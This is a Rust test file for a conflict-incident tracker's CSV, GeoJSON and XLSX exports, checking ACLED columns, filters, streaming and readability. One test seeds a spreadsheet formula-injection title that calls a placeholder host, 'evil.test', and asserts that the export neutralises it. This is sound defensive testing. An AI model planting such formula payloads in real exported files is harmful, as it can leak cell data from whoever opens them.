//! Incident exports (issue 15, "Export"): the list's filters, ACLED's
//! column names, streamed in chunks, read back by real readers (the csv
//! crate; GDAL's `ogrinfo` for the GeoJSON).

use serde_json::{json, Value};

use crate::helpers::{event_with, los_chancas, spawn_app, TestApp};

/// Logs `n` incidents straight through the operation (one transaction),
/// titled `prefix 0` … in Cusco unless `overrides` say otherwise.
fn log_many(app: &TestApp, n: usize, overrides: Value) {
    let mut conn = app.db.get().unwrap();
    let fields: Vec<_> = (0..n)
        .map(|i| {
            let mut body = event_with(overrides.clone());
            body["title"] = json!(format!("Bloqueo {i}"));
            serde_json::from_value::<vigia::events::EventInput>(body)
                .unwrap()
                .into_fields()
                .unwrap()
        })
        .collect();
    vigia::ops::events::create_checked(
        &mut conn,
        &vigia::places::PlaceIndex::default(),
        &vigia::ops::Who::cli(),
        &fields,
    )
    .unwrap();
}

fn read_csv(body: &str) -> (Vec<String>, Vec<csv::StringRecord>) {
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let headers = reader.headers().unwrap().iter().map(String::from).collect();
    let rows = reader.records().map(Result::unwrap).collect();
    (headers, rows)
}

#[actix_web::test]
async fn the_csv_export_has_acled_columns_the_list_filters_and_safe_cells() {
    let app = spawn_app().await;
    let fire = app.create_event(los_chancas()).await;
    let miners = app
        .post(
            "/api/v1/actors",
            &app.monitor,
            json!({"name": "Mineros informales de Tiaparo", "kind": "informal_group"}),
        )
        .await;
    let link = app
        .post(
            &format!("/api/v1/events/{}/actors", fire["id"].as_str().unwrap()),
            &app.monitor,
            json!({"actor_id": miners.body["id"], "role": "perpetrator", "attribution": "alleged"}),
        )
        .await;
    assert!(link.status < 300, "{}", link.body);
    // A hostile title, and an incident the filter leaves out.
    app.create_event(event_with(json!({
        "title": "=HYPERLINK(\"http://evil.test/?\"&A2,\"Clic\")",
        "admin": {"region": "Apurímac"}
    })))
    .await;
    app.create_event(event_with(json!({"admin": {"region": "Cusco"}})))
        .await;

    let res = app
        .get("/api/v1/events/export.csv?region=apurimac", &app.researcher)
        .await;
    assert_eq!(res.status, 200, "{}", res.body);
    assert!(res.header("content-type").unwrap().starts_with("text/csv"));
    assert_eq!(
        res.header("content-disposition").as_deref(),
        Some("attachment; filename=\"vigia-incidents.csv\"")
    );
    let (headers, rows) = read_csv(res.body.as_str().unwrap());
    assert_eq!(headers, vigia::events::export::COLUMNS);
    assert_eq!(rows.len(), 2, "only Apurímac: {rows:?}");
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let fire_row = rows
        .iter()
        .find(|r| r[col("event_id_cnty")] == *fire["id"].as_str().unwrap())
        .expect("the fire is exported");
    assert_eq!(&fire_row[col("event_date")], "2022-05-01");
    assert_eq!(&fire_row[col("year")], "2022");
    assert_eq!(
        &fire_row[col("time_precision")],
        "2",
        "month precision is ACLED's 2"
    );
    assert_eq!(
        &fire_row[col("geo_precision")],
        "3",
        "approximate is ACLED's 3"
    );
    assert_eq!(&fire_row[col("actor1")], "Mineros informales de Tiaparo");
    assert_eq!(&fire_row[col("admin1")], "Apurímac");
    assert_eq!(&fire_row[col("admin3")], "Pocohuanca");
    assert_eq!(&fire_row[col("iso")], "604");
    assert_eq!(&fire_row[col("latitude")], "-14.2190728");
    assert_eq!(
        &fire_row[col("source")],
        "Instituto de Ingenieros de Minas del Perú; Defensoría del Pueblo"
    );
    assert!(fire_row[col("attribution")].contains("perpetrator, alleged"));
    let hostile = rows
        .iter()
        .find(|r| r[col("title")].contains("HYPERLINK"))
        .unwrap();
    assert!(
        hostile[col("title")].starts_with("'="),
        "a formula is neutralised: {:?}",
        &hostile[col("title")]
    );

    // Dates name the file; pages' parameters are refused, not ignored.
    let res = app
        .get(
            "/api/v1/events/export.csv?from=2022-01-01&to=2022-12-31",
            &app.researcher,
        )
        .await;
    assert_eq!(
        res.header("content-disposition").as_deref(),
        Some("attachment; filename=\"vigia-incidents_from-2022-01-01_to-2022-12-31.csv\"")
    );
    for query in ["limit=10", "cursor=abc", "region="] {
        app.get(
            &format!("/api/v1/events/export.csv?{query}"),
            &app.researcher,
        )
        .await
        .problem(400);
    }
    app.request(
        actix_web::http::Method::GET,
        "/api/v1/events/export.csv",
        None,
        None,
    )
    .await
    .problem(401);
}

/// More incidents than one chunk (500): every one once, in the list's
/// order, through both formats; GDAL opens the GeoJSON.
#[actix_web::test]
async fn exports_stream_every_incident_once_and_gdal_reads_the_geojson() {
    let app = spawn_app().await;
    log_many(&app, 1203, json!({"admin": {"region": "Cusco"}}));
    log_many(&app, 7, json!({"admin": {"region": "Puno"}}));

    let res = app
        .get("/api/v1/events/export.csv?region=cusco", &app.researcher)
        .await;
    let (_, rows) = read_csv(res.body.as_str().unwrap());
    let mut ids: Vec<&str> = rows.iter().map(|r| r.get(0).unwrap()).collect();
    assert_eq!(ids.len(), 1203);
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), 1203, "no incident twice");

    let res = app
        .get(
            "/api/v1/events/export.geojson?region=cusco",
            &app.researcher,
        )
        .await;
    assert_eq!(res.status, 200);
    assert_eq!(
        res.header("content-type").as_deref(),
        Some("application/geo+json")
    );
    let text = match &res.body {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    let doc: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(doc["type"], "FeatureCollection");
    let features = doc["features"].as_array().unwrap();
    assert_eq!(features.len(), 1203);
    assert_eq!(features[0]["geometry"]["type"], "Point");
    assert_eq!(features[0]["properties"]["admin1"], "Cusco");
    assert_eq!(features[0]["properties"]["iso"], 604);

    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("incidents.geojson");
    std::fs::write(&file, &text).unwrap();
    let Some(out) = ogrinfo(&file) else {
        return;
    };
    assert!(out.contains("Feature Count: 1203"), "{out}");
    assert!(out.contains("Geometry: Point"), "{out}");
    assert!(out.contains("event_id_cnty: String"), "{out}");
    assert!(out.contains("fatalities: Integer"), "{out}");

    // An empty selection is a valid, empty collection.
    let res = app
        .get(
            "/api/v1/events/export.geojson?region=loreto",
            &app.researcher,
        )
        .await;
    let text = match &res.body {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    let doc: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(doc["features"], json!([]));
}

/// GDAL's summary of a file, or `None` (said on stderr) when `ogrinfo` is not
/// installed; under `CI` its absence fails the test (`.ci/run` installs it).
pub fn ogrinfo(file: &std::path::Path) -> Option<String> {
    ogrinfo_with(file, &["-ro", "-al", "-so"])
}

/// What `ogrinfo ARGS FILE` prints, or `None` as for [`ogrinfo`].
pub fn ogrinfo_with(file: &std::path::Path, args: &[&str]) -> Option<String> {
    match std::process::Command::new("ogrinfo")
        .args(args)
        .arg(file)
        .output()
    {
        Ok(out) => {
            assert!(
                out.status.success(),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
            Some(String::from_utf8_lossy(&out.stdout).into_owned())
        }
        Err(e) => {
            let ci = std::env::var("CI").is_ok_and(|v| !matches!(v.trim(), "" | "0" | "false"));
            assert!(!ci, "ogrinfo (gdal-bin) is missing and CI is set: {e}");
            eprintln!("SKIPPED the GDAL check: ogrinfo is not installed ({e})");
            None
        }
    }
}

/// The workbook opens in a real spreadsheet reader: one sheet, the header
/// row, one row per incident, dates as dates and numbers as numbers.
#[actix_web::test]
async fn the_xlsx_export_is_a_workbook_with_dates_and_numbers() {
    use calamine::{Data, Reader, Xlsx};
    let app = spawn_app().await;
    app.create_event(los_chancas()).await;
    log_many(&app, 520, json!({"admin": {"region": "Cusco"}}));
    app.create_event(event_with(
        json!({"title": "=1+1", "admin": {"region": "Cusco"}}),
    ))
    .await;

    let res = app
        .send(
            actix_web::http::Method::GET,
            "/api/v1/events/export.xlsx?region=cusco",
            Some(&app.researcher),
            &[],
            None,
        )
        .await;
    assert_eq!(res.status, 200, "{}", res.body);
    assert_eq!(
        res.header("content-disposition").as_deref(),
        Some("attachment; filename=\"vigia-incidents.xlsx\"")
    );
    let bytes = res.bytes.clone();
    let mut workbook: Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    assert_eq!(workbook.sheet_names(), ["incidentes"]);
    let sheet = workbook.worksheet_range("incidentes").unwrap();
    let rows: Vec<_> = sheet.rows().collect();
    assert_eq!(rows.len(), 1 + 521, "header and one row per Cusco incident");
    let header: Vec<String> = rows[0].iter().map(|c| c.to_string()).collect();
    assert_eq!(header, vigia::events::export::COLUMNS);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let first = rows[1];
    assert!(
        matches!(first[col("event_date")], Data::DateTime(_)),
        "a date cell: {:?}",
        first[col("event_date")]
    );
    assert!(
        matches!(first[col("latitude")], Data::Float(_)),
        "{:?}",
        first[col("latitude")]
    );
    assert_eq!(first[col("admin1")].to_string(), "Cusco");
    // A formula typed as a title stays text.
    assert!(rows
        .iter()
        .any(|r| r[col("title")] == Data::String("=1+1".into())));
}
